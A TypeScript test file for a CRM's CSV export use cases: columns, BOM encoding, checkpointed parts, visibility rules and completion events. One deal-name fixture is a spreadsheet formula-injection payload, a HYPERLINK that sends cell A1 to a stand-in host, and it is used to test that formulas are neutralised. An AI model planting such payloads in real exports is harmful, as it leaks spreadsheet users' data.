import { describe, expect, it } from 'vitest';
import { csvRows } from '#shared/imports/csv.ts';
import { ValidationError } from '#shared/kernel/errors.ts';
import type { DomainEvent } from '#shared/kernel/events.ts';
import type { Principal } from '#shared/kernel/principal.ts';
import { exportColumns, exportRow, PART_MAX_ROWS, type ExportCheckpoint, type ExportJob } from '#shared/exports/domain.ts';
import type { ExportFiles, ExportRepository, ExportSources } from '#shared/exports/ports.ts';
import { createExport, getExport, runExportSlice, type ExportsDeps } from '#shared/exports/use-cases.ts';
import { notificationOf } from '#shared/notifications/domain.ts';
import { activityOf, parentStateOf } from '#shared/activities/domain.ts';

// CSV exports against in-memory ports: the rows, the BOM, neutralised cells, custom fields as
// columns, slices with a checkpoint, and the events a finished export writes.

class MemoryExports implements ExportRepository {
  readonly jobs = new Map<string, ExportJob>();
  readonly events: DomainEvent[] = [];
  async get(id: string) {
    const job = this.jobs.get(id);
    return job && structuredClone(job);
  }
  async create(job: ExportJob, events: DomainEvent[]) {
    this.jobs.set(job.id, structuredClone(job));
    this.events.push(...events);
  }
  async checkpoint(id: string, before: number, next: ExportCheckpoint, rows: number, at: string) {
    const job = this.jobs.get(id)!;
    if (job.part_bytes.length !== before || (job.status !== 'queued' && job.status !== 'running')) return false;
    Object.assign(job, structuredClone(next), { rows, status: 'running', updated_at: at });
    return true;
  }
  async finish(id: string, at: string, events: DomainEvent[]) {
    const job = this.jobs.get(id)!;
    if (job.status !== 'running') return false;
    Object.assign(job, { status: 'done', finished_at: at, updated_at: at });
    this.events.push(...events);
    return true;
  }
  async fail(id: string, reason: string, at: string, events: DomainEvent[]) {
    const job = this.jobs.get(id)!;
    if (job.status === 'done' || job.status === 'failed') return false;
    Object.assign(job, { status: 'failed', failure_reason: reason, finished_at: at, updated_at: at });
    this.events.push(...events);
    return true;
  }
}

class MemoryFiles implements ExportFiles {
  readonly objects = new Map<string, Buffer>();
  async putPart(key: string, body: string) {
    this.objects.set(key, Buffer.from(body, 'utf8'));
  }
  async join(parts: readonly string[], to: string, options: { bytes: number }) {
    const joined = Buffer.concat(parts.map((p) => this.objects.get(p)!));
    expect(joined.length).toBe(options.bytes);
    this.objects.set(to, joined);
  }
  async delete(key: string) {
    this.objects.delete(key);
  }
  async downloadUrl(key: string) {
    return `https://files.example/${key}`;
  }
}

const rep: Principal = { user_id: 'u-rep', email: 'rep@example.com', role: 'user', direct_reports: [] };

/** Deals owned by `owner_id`; the list answers what the caller may see, 100 (or `limit`) a page. */
function sourcesOf(
  records: Record<string, unknown>[],
  customFields: string[] = ['Région', 'Score'],
): ExportSources & { seen: Principal[] } {
  const seen: Principal[] = [];
  return {
    seen,
    async page(_resource, call, filters, page) {
      if ('bogus' in filters) throw new ValidationError([{ field: 'filters.bogus', message: 'is not a known filter' }]);
      seen.push(call.principal);
      const visible = records.filter(
        (r) =>
          call.principal.role === 'admin' ||
          r.owner_id === call.principal.user_id ||
          call.principal.direct_reports.includes(r.owner_id as string),
      );
      const start = page.cursor ? Number(page.cursor) : 0;
      const items = visible.slice(start, start + page.limit);
      return { items, next_cursor: start + page.limit < visible.length ? String(start + page.limit) : null };
    },
    async customFieldNames() {
      return customFields;
    },
    async emailsOf(ids) {
      return new Map(ids.map((id) => [id, `${id.slice(2)}@example.com`]));
    },
  };
}

function depsOf(sources: ExportSources, clockMs = { value: 0, step: 0 }) {
  const exports = new MemoryExports();
  const files = new MemoryFiles();
  const sent: string[] = [];
  const deps: ExportsDeps = {
    exports,
    files,
    queue: { send: async (m) => void sent.push(m.export_id) },
    sources,
    clock: { now: () => new Date('2026-12-01T10:00:00Z') },
    // Each reading moves the clock on by `step` ms.
    elapsed: () => (clockMs.value += clockMs.step),
  };
  return { deps, exports, files, sent };
}

let ids = 0;
const callOf = (principal: Principal) => ({
  principal,
  events: { actor_id: principal.user_id, correlation_id: 'c', now: new Date('2026-12-01T10:00:00Z'), newId: () => `id-${++ids}` },
});
const events = { actor_id: 'system', correlation_id: 'c', now: new Date('2026-12-01T10:00:01Z'), newId: () => `ev-${++ids}` };

const deal = (n: number, extra: Record<string, unknown> = {}) => ({
  id: `d${n}`,
  name: `Deal ${n}`,
  value: '100.00',
  currency: 'EUR',
  hot: false,
  estimated_close_date: null,
  tags: [],
  owner_id: 'u-rep',
  custom_fields: {},
  created_at: '2026-11-01T00:00:00Z',
  updated_at: '2026-11-01T00:00:00Z',
  ...extra,
});

describe('export columns and rows', () => {
  it('are the import headers: id, standard fields, owner_email, custom fields by name, then the times', () => {
    expect(exportColumns('deals', ['Région', 'name'])).toEqual([
      'id',
      'name',
      'value',
      'currency',
      'hot',
      'estimated_close_date',
      'tags',
      'owner_email',
      'Région',
      // A custom field named like a standard header keeps its own column.
      'custom_fields.name',
      'created_at',
      'updated_at',
    ]);
  });

  it('reads nested fields, joins lists, and takes custom fields by name', () => {
    const columns = exportColumns('leads', ['Score']);
    const row = exportRow(
      'leads',
      columns,
      { id: 'l1', last_name: 'Łódź', tags: ['a', 'b'], address: { city: 'Łódź' }, custom_fields: { Score: 7 }, owner_id: 'u1' },
      ['Score'],
      'one@example.com',
    );
    const cell = (c: string) => row[columns.indexOf(c)];
    expect([cell('last_name'), cell('tags'), cell('address.city'), cell('Score'), cell('owner_email'), cell('email')]).toEqual([
      'Łódź',
      'a, b',
      'Łódź',
      '7',
      'one@example.com',
      '',
    ]);
  });
});

describe('runExportSlice', () => {
  it('writes UTF-8 with a BOM, accents intact, formulas neutralised, phones and negative numbers as they are', async () => {
    const sources = sourcesOf([
      deal(1, { name: 'Société Générale', custom_fields: { Région: 'Łódź', Score: -5 } }),
      deal(2, { name: '=HYPERLINK("http://exemple.invalid/?"&A1,"Clica")', custom_fields: { Région: '+34 612 345 678' } }),
      deal(3, { name: '@SUM(A1)', owner_id: 'u-other' }),
    ]);
    const { deps, files, exports } = depsOf(sources);
    const view = await createExport(deps, callOf(rep), { resource: 'deals', filters: { stage_id: 's1', limit: '5' } });
    expect(view).toMatchObject({ status: 'queued', rows: 0, filters: { stage_id: 's1' } });

    expect(await runExportSlice(deps, events, view.id)).toBe('finished');

    const bytes = files.objects.get(`exports/${view.id}.csv`)!;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows: string[][] = [];
    for await (const r of csvRows([bytes])) rows.push(r);
    const header = rows[0]!;
    expect(header.slice(-4)).toEqual(['Région', 'Score', 'created_at', 'updated_at']);
    const at = (row: number, column: string) => rows[row]![header.indexOf(column)];
    expect(rows).toHaveLength(3); // the header and the rep's two deals
    expect([at(1, 'name'), at(1, 'Région'), at(1, 'Score'), at(1, 'owner_email')]).toEqual([
      'Société Générale',
      'Łódź',
      '-5',
      'rep@example.com',
    ]);
    expect(at(2, 'name')).toBe(`'=HYPERLINK("http://exemple.invalid/?"&A1,"Clica")`);
    expect(at(2, 'Région')).toBe('+34 612 345 678');
    // Parts are gone once joined; the job is done with its rows.
    expect([...files.objects.keys()]).toEqual([`exports/${view.id}.csv`]);
    expect(exports.jobs.get(view.id)).toMatchObject({ status: 'done', rows: 2 });
    // The worker listed with the requester's rights as they were at request time.
    expect(sources.seen.every((p) => p.user_id === 'u-rep' && p.role === 'user')).toBe(true);
  });

  it('writes export.finished, which notifies the requester (export_finished) and makes a feed entry of theirs', async () => {
    const { deps, exports } = depsOf(sourcesOf([deal(1)]));
    const view = await createExport(deps, callOf(rep), { resource: 'deals' });
    await runExportSlice(deps, events, view.id);
    const finished = exports.events.find((e) => e.metadata.event_type === 'export.finished')!;
    expect(finished.metadata).toMatchObject({ resource_type: 'export', resource_id: view.id, actor_id: 'u-rep' });
    expect(notificationOf(finished)).toMatchObject({
      recipient_id: 'u-rep',
      kind: 'export_finished',
      record: { type: 'export', id: view.id, name: view.filename },
    });
    expect(activityOf(finished)).toMatchObject({
      verb: 'exported',
      record: { type: 'export', id: view.id },
      parent: { type: 'export', id: view.id },
    });
    expect(parentStateOf(finished)).toEqual({ owner_id: 'u-rep', version: 1 });
    expect((await getExport(deps, callOf(rep), view.id)).download?.url).toBe(`https://files.example/exports/${view.id}.csv`);
  });

  it('writes a long list in parts, a checkpoint after each, and queues the rest when the slice budget is spent', async () => {
    const total = PART_MAX_ROWS * 2 + 17;
    const clock = { value: 0, step: 0 };
    const { deps, files, exports, sent } = depsOf(sourcesOf(Array.from({ length: total }, (_, n) => deal(n))), clock);
    const view = await createExport(deps, callOf(rep), { resource: 'deals' });
    // Past the budget after the first part: one part, then a message for the rest.
    clock.step = 25_000;
    expect(await runExportSlice(deps, events, view.id)).toBe('continued');
    expect(exports.jobs.get(view.id)).toMatchObject({ status: 'running', rows: PART_MAX_ROWS });
    expect(exports.jobs.get(view.id)!.part_bytes).toHaveLength(1);
    expect(sent).toEqual([view.id, view.id]);
    // The next invocation resumes at the checkpoint and, within its budget, finishes.
    clock.step = 0;
    expect(await runExportSlice(deps, events, view.id)).toBe('finished');
    expect(await runExportSlice(deps, events, view.id)).toBe('skipped');
    const rows: string[][] = [];
    for await (const r of csvRows([files.objects.get(`exports/${view.id}.csv`)!])) rows.push(r);
    expect(rows).toHaveLength(total + 1);
    expect(new Set(rows.slice(1).map((r) => r[0])).size).toBe(total);
    expect(exports.jobs.get(view.id)).toMatchObject({ status: 'done', rows: total });
  });

  it('refuses a bad filter at request time, and fails with the reason when a filter goes bad later', async () => {
    const { deps, exports } = depsOf(sourcesOf([deal(1)]));
    await expect(createExport(deps, callOf(rep), { resource: 'deals', filters: { bogus: '1' } })).rejects.toThrow(
      ValidationError,
    );
    const view = await createExport(deps, callOf(rep), { resource: 'deals' });
    exports.jobs.get(view.id)!.filters = { bogus: '1' };
    expect(await runExportSlice(deps, events, view.id)).toBe('failed');
    expect(exports.jobs.get(view.id)).toMatchObject({ status: 'failed', failure_reason: 'filters.bogus: is not a known filter' });
    expect(exports.events.map((e) => e.metadata.event_type)).toContain('export.failed');
  });

  it('shows an export to its creator and admins only', async () => {
    const { deps } = depsOf(sourcesOf([]));
    const view = await createExport(deps, callOf(rep), { resource: 'contacts' });
    const manager: Principal = { user_id: 'u-m', email: 'm@example.com', role: 'manager', direct_reports: ['u-rep'] };
    await expect(getExport(deps, callOf(manager), view.id)).rejects.toThrow(/was not found/);
    const admin: Principal = { user_id: 'u-a', email: 'a@example.com', role: 'admin', direct_reports: [] };
    expect((await getExport(deps, callOf(admin), view.id)).export.id).toBe(view.id);
  });
});
